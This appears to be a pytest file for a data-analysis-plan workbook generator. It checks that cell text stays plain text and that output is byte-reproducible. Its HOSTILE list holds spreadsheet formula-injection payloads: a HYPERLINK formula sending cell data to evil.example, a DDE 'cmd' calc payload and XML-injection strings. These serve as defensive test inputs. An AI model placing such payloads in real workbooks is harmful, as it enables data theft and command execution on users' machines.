"""The DAP workbook: record text stays text, and the same plan gives the same bytes."""

from __future__ import annotations

import io
import re
import time
import zipfile

import pandas as pd
import pytest
from support import SMALL_KB

from generator.dap import dap_frame, dap_xlsx
from generator.loader import load_or_raise

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1)", "https://evil.example/steal", "1e5", "-2",
           # XlsxWriter writes a text like these into the file unescaped (generator/xlsx_text.py):
           # the first would read back as "forged", the second breaks the workbook's XML.
           "<r><t>forged</t></r>", "<r></t></r></si><si><t>X</t></si><si><r><t>y</t></r>"]


@pytest.fixture(scope="module")
def kb():
    return load_or_raise(SMALL_KB).public_view()


def test_record_text_is_never_a_formula_a_link_or_a_number(kb) -> None:
    frame = dap_frame(kb, {})
    cells = [(row, column) for column in ("Purpose", "Use", "Information need")
             for row in range(len(frame))]
    assert len(cells) >= len(HOSTILE)
    for (row, column), value in zip(cells, HOSTILE, strict=False):
        frame.at[row, column] = value
    data = dap_xlsx(frame, kb)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
        assert "<f>" not in xml and "<hyperlink" not in xml
        assert not any("hyperlink" in z.read(n).decode() for n in z.namelist()
                       if n.endswith(".rels"))
    back = pd.read_excel(io.BytesIO(data), sheet_name="Data Analysis Plan", dtype=str)
    assert [back.at[row, column] for row, column in cells][: len(HOSTILE)] == HOSTILE


def test_same_plan_same_bytes_dated_by_source_date_epoch(
        kb, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01
    frame = dap_frame(kb, {})
    one = dap_xlsx(frame, kb)
    time.sleep(1.1)  # a clock read anywhere would now differ
    assert dap_xlsx(frame, kb) == one
    with zipfile.ZipFile(io.BytesIO(one)) as z:
        assert {i.date_time for i in z.infolist()} == {(2026, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode("utf-8")
    assert re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]*)<", core) == \
        ["2026-01-01T00:00:00Z"] * 2


def test_field_companion_text_stays_text() -> None:
    import openpyxl

    from generator.library.companion import COLUMNS, Entry, workbook

    texts = HOSTILE[-2:] + ["<r>a & b</r>"]
    entries = [Entry("Sector", f"q{i}", text, "Text", "", {}, {"fr": text})
               for i, text in enumerate(texts)]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(entries, "T", ["fr"]))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[2] for r in rows] == texts and [r[len(COLUMNS)] for r in rows] == texts
